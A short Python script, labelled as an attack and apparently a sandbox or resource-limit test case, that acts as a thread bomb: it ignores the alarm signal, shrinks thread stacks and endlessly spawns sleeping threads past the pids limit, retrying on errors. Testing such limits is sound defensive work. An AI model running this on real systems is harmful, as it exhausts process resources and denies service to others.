# attack: thread bomb - start small-stack sleeping threads past the pids limit, then keep trying
import signal
import threading
import time

signal.signal(signal.SIGALRM, signal.SIG_IGN)
threading.stack_size(64 * 1024)
while True:
    try:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except (RuntimeError, MemoryError):
        continue
